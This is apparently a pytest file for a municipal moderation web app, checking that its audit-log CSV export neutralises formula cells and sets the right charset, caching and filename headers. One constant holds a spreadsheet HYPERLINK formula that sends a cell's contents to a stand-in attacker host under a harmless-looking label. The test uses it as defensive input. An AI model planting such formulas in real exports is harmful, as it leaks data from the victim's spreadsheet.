"""The audit log CSV goes through the one CSV writer: formula cells neutralised, one charset,
never cached."""
from __future__ import annotations

import csv
import io

from app.moderation import services
from app.moderation.models import Decision
from app.municipalities.models import ModerationMode

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Se vedlegg")'


def test_audit_csv_cells_never_run_as_formulas(client, auth, db, make_municipality, make_user,
                                               make_idea):
    municipality = make_municipality("Voss", moderation_mode=ModerationMode.pre)
    moderator = make_user(role="moderator", municipality=municipality, name="@Mona")
    idea = make_idea(municipality, make_user(municipality=municipality), title=HOSTILE)
    services.decide(idea, moderator, Decision.reject, HOSTILE)
    db.session.commit()
    auth.login(make_user(role="admin", municipality=municipality))
    response = client.get("/voss/moderering/logg.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == 'attachment; filename="revisjonslogg-voss.csv"'
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    reject = [r for r in rows if r["action"] == "moderation.reject"][0]
    assert reject["reason"] == "'" + HOSTILE and reject["actor"] == "'@Mona"
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for value in row.values())
